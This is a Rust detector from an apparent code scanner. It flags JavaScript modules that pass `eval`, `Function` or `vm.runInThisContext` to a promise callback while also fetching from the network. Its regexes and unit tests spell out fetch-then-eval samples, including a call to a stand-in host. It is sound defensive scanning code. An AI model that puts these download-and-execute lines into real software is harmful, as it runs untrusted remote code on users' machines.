//! A code runner handed to a promise as its callback: `get(url).then(eval)`, `load().then(vm.runInThisContext)`,
//! `p.then(Function)`. Whatever the promise settles with is run as code, and in a module that fetches
//! something the promise is the download: text from the network evaluated with no name between the two.
//!
//! The taint engine follows a downloaded value through names into a sink; a sink passed as a function
//! value, behind a helper that wraps `https.get` in `new Promise`, carries no name to follow. Nothing
//! ordinary passes `eval` itself as a callback: code that reads fetched JSON passes `JSON.parse`, and a
//! logger passes `console.log`.

use super::FileDetector;
use crate::ascii_classes::ascii_regex;
use crate::matchers::{Hit, HitDetail};
use crate::segment::Segment;
use regex::Regex;
use skill_scan_model::Language;
use std::sync::LazyLock;

pub(crate) static PROMISE_INTO_EVAL: FileDetector = FileDetector {
    literals: &["then"],
    run: find_promise_into_eval,
};

/// `.then(eval)`, `.then(vm.runInThisContext)`, `.then(Function)`, `.then(globalThis.eval, onError)`.
// Constant patterns (their tests compile them): `expect` never sees scanned data.
#[allow(clippy::expect_used)]
static THEN_RUNNER: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(concat!(
        r"\.then\s*\(\s*(?P<runner>(?:(?:global|globalThis|window|self)\s*\.\s*)?eval|Function",
        r"|(?:[A-Za-z_$][\w$]*\s*\.\s*)?run(?:InThisContext|InNewContext|InContext))\s*[,)]"
    ))
    .expect("then runner pattern")
});

/// A network read in the same module: what the promise carries.
#[allow(clippy::expect_used)]
static NETWORK: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(concat!(
        r"\b(?:https?\s*\.\s*(?:get|request)|fetch|axios(?:\s*\.\s*(?:get|request))?|got|needle",
        r"|undici\s*\.\s*request|net\s*\.\s*connect|WebSocket)\s*\("
    ))
    .expect("network pattern")
});

fn find_promise_into_eval(segment: &Segment, text: &str, keep: &mut dyn FnMut(Hit) -> bool) {
    if !matches!(
        segment.language,
        Language::Javascript | Language::Typescript
    ) {
        return;
    }
    let body = segment.text(text);
    let Some(found) = THEN_RUNNER.captures(body) else {
        return;
    };
    let (Some(whole), Some(runner)) = (found.get(0), found.name("runner")) else {
        return;
    };
    let Some(network) = NETWORK.find(body) else {
        return;
    };
    keep(Hit {
        start: segment.start + whole.start(),
        end: segment.start + whole.end(),
        detail: Some(Box::new(HitDetail {
            message: format!(
                "`{}` is handed to a promise as its callback, in a module that reads the network: what the promise yields is run as code",
                runner.as_str()
            ),
            related: vec![(segment.start + network.start(), "the network read".to_string())],
        })),
    });
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fires(text: &str) -> bool {
        crate::native::file_detector_fires(
            find_promise_into_eval,
            text,
            "setup.js",
            Language::Javascript,
        )
    }

    #[test]
    fn a_fetched_promise_handed_to_eval_fires() {
        assert!(fires(concat!(
            "const https = require('https');\n",
            "const get = (u) => new Promise((ok) => https.get(u, (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => ok(b)); }));\n",
            "get('https://x.example.invalid/a.js').then(eval);\n",
        )));
        assert!(fires(
            "const vm = require('vm');\nfetch(u).then((r) => r.text()).then(vm.runInThisContext, () => {});\n"
        ));
    }

    #[test]
    fn parsers_loggers_and_offline_eval_are_quiet() {
        assert!(!fires(
            "fetch(u).then((r) => r.text()).then(JSON.parse).then(console.log);\n"
        ));
        // No network in the module: a REPL evaluating what the user typed.
        assert!(!fires("readLine().then(eval).then(print);\n"));
        assert!(!fires(
            "fetch(u).then(evaluate);\nfetch(v).then(runInThisContextLater);\n"
        ));
    }
}
